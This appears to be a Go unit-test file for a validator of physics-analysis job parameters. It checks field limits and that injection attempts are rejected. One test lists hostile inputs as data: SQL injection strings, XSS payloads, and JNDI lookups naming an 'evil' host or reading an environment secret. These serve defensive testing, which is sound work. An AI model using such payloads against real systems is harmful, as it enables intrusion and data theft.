package validation

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/spectraproject/spectra/internal/common/spectraerrors"
	"github.com/spectraproject/spectra/internal/spectra/domain"
)

func validParams() domain.JobParameters {
	return domain.JobParameters{
		Name:            "analysis-1",
		Description:     "muon candidate selection over run 7",
		ExpectedEvents:  1000,
		EnergyThreshold: 5.0,
	}
}

func TestValidParametersPass(t *testing.T) {
	assert.NoError(t, JobParameters(validParams()))
}

func TestStructuralRejections(t *testing.T) {
	tests := map[string]struct {
		mutate func(*domain.JobParameters)
		field  string
	}{
		"empty name":      {func(p *domain.JobParameters) { p.Name = "" }, "jobName"},
		"oversized name":  {func(p *domain.JobParameters) { p.Name = strings.Repeat("x", 101) }, "jobName"},
		"zero events":     {func(p *domain.JobParameters) { p.ExpectedEvents = 0 }, "expectedEvents"},
		"negative events": {func(p *domain.JobParameters) { p.ExpectedEvents = -5 }, "expectedEvents"},
		"zero energy":     {func(p *domain.JobParameters) { p.EnergyThreshold = 0 }, "energyThreshold"},
		"negative energy": {func(p *domain.JobParameters) { p.EnergyThreshold = -1.5 }, "energyThreshold"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			p := validParams()
			tc.mutate(&p)
			err := JobParameters(p)
			var invalid *spectraerrors.ErrInvalidArgument
			require.ErrorAs(t, err, &invalid)
			assert.Equal(t, tc.field, invalid.Name)
		})
	}
}

func TestInjectionPatternsRejected(t *testing.T) {
	payloads := []string{
		"DROP TABLE users; --",
		"drop table jobs",
		"Robert'); DELETE thing FROM users",
		"1 UNION SELECT password",
		"insert into users values",
		"<script>alert(1)</script>",
		"< ScRiPt >alert(1)",
		"javascript:alert(1)",
		"img onerror=steal()",
		"${jndi:ldap://x}",
		"${ jndi :rmi://evil}",
		"${env:SECRET}",
	}
	for _, payload := range payloads {
		t.Run(payload, func(t *testing.T) {
			p := validParams()
			p.Name = payload
			err := JobParameters(p)
			var invalid *spectraerrors.ErrInvalidArgument
			require.ErrorAs(t, err, &invalid)
			assert.Contains(t, invalid.Message, "malicious content")
		})
	}
}

func TestInjectionCheckedInDescriptionAndAdditional(t *testing.T) {
	p := validParams()
	p.Description = "${jndi:ldap://evil}"
	var invalid *spectraerrors.ErrInvalidArgument
	require.ErrorAs(t, JobParameters(p), &invalid)
	assert.Equal(t, "description", invalid.Name)

	p = validParams()
	p.Additional = map[string]string{"selection": "<script>alert(1)</script>"}
	require.ErrorAs(t, JobParameters(p), &invalid)
	assert.Equal(t, "additional.selection", invalid.Name)
}

func TestAllProblemsReportedTogether(t *testing.T) {
	p := domain.JobParameters{Name: "", ExpectedEvents: -1, EnergyThreshold: 0}
	err := JobParameters(p)
	require.Error(t, err)
	msg := err.Error()
	assert.Contains(t, msg, "jobName")
	assert.Contains(t, msg, "expectedEvents")
	assert.Contains(t, msg, "energyThreshold")
}

func TestBenignNamesAreNotFlagged(t *testing.T) {
	for _, name := range []string{
		"analysis-1",
		"dijet-selection-2024",
		"update calibration pass 3",
		"drop-weighted histogram fill",
	} {
		p := validParams()
		p.Name = name
		assert.NoError(t, JobParameters(p), name)
	}
}
